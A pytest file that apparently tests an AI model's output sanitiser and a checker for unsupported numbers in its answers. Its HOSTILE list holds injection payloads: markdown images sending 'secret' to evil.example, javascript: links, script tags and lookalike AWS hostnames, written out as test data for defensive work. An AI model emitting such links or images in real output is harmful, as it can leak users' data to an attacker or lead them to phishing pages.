"""What a model says cannot put images, HTML or links to elsewhere into the page, however it is cut into pieces."""

from __future__ import annotations

import re

import pytest

from rassistant.assistant.safe_text import SafeText, made_safe
from rassistant.assistant.unverified import unverified_numbers

HOSTILE = [
    "![x](https://evil.example/p.png?d=secret)",
    "see ![](//evil.example/x) now",
    "[click me](https://evil.example/login)",
    "[a](javascript:alert(1))",
    "[a]( <https://evil.example> 'title')",
    "go to https://evil.example/x and www.evil.example",
    "<img src=https://evil.example/x>",
    "<a href='https://evil.example'>x</a>",
    "<!-- x --><script>alert(1)</script>",
    "[a][b]\n\n[b]: https://evil.example",
    "[a][b c]\n\n[b c]: https://evil.example",
    "![a][b]\n\n[b]: https://evil.example",
    "<https://evil.example>",
    "https://docs.aws.amazon.com.evil.example/",
    "https://docs.aws.amazon.com@evil.example/",
    "[x](http://docs.aws.amazon.com/)",
    "| a | https://evil.example |",
    "**[bold](https://evil.example)**",
]


def pieces(text, size):
    safe = SafeText()
    return "".join(safe.feed(text[i : i + size]) for i in range(0, len(text), size)) + safe.rest()


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_leads_out(text, size):
    found = pieces(text, size)
    assert not re.search(r"!\[", found)
    assert not re.search(r"\]\(", found)
    assert not re.search(r"(?i)https?://|www\.\w", found)
    assert not re.search(r"<[a-zA-Z/!?]", found)
    assert not re.search(r"(?i)javascript:\w", found)
    assert not re.search(r"(?m)^\s*\[[^\]]+\]:", found)


@pytest.mark.parametrize("size", [1, 5, 1000])
@pytest.mark.parametrize(
    "text",
    [
        "a < b, 3 > 2, x[0] = y[1]; [not a link] done!",
        "| a | b |\n| --- | ---: |\n| **1** | `x` |\n",
        "[guide](https://docs.aws.amazon.com/ec2/) and https://aws.amazon.com/ec2/pricing/",
        "[open](https://us-east-1.console.aws.amazon.com/ec2/home)",
        "안녕하세요! 서울 리전입니다.\n\n```\naws ec2 describe-instances\n```",
        "",
    ],
)
def test_the_rest_comes_through_unchanged(text, size):
    assert pieces(text, size) == text


def test_nothing_is_held_back_for_ever():
    safe = SafeText()
    shown = "".join(safe.feed("[" + "x" * 50) for _ in range(40))
    assert len(shown) > 1000


def test_safe_twice_is_safe_once():
    for text in HOSTILE:
        assert made_safe(made_safe(text)) == made_safe(text)


SAID = ['{"total": 1234.567, "share": 0.453, "count": 42, "rows": [{"cost": 12.3}]}']


@pytest.mark.parametrize(
    ("answer", "doubtful"),
    [
        ("You spent $1,234.57, that is 45% more, on 42 instances.", ()),
        ("About $1,235 in all, or 45.3%.", ()),
        ("You spent $1,300.", ("$1,300",)),
        ("42 instances, 17 of them idle, 99%", ("17", "99%")),
        ("1. first\n2. second\n3) third, in 3 steps", ()),
        ("Since 2026-11-22 in us-east-1 (t3.micro, m5.2xlarge, gp3), year 2025, at 12:30", ()),
        ("`aws --count 999` and\n```\n888\n```", ()),
        ("It costs 12.30 a month, $3 a day", ("$3",)),
    ],
)
def test_numbers_that_nothing_said(answer, doubtful):
    assert unverified_numbers(answer, SAID) == doubtful
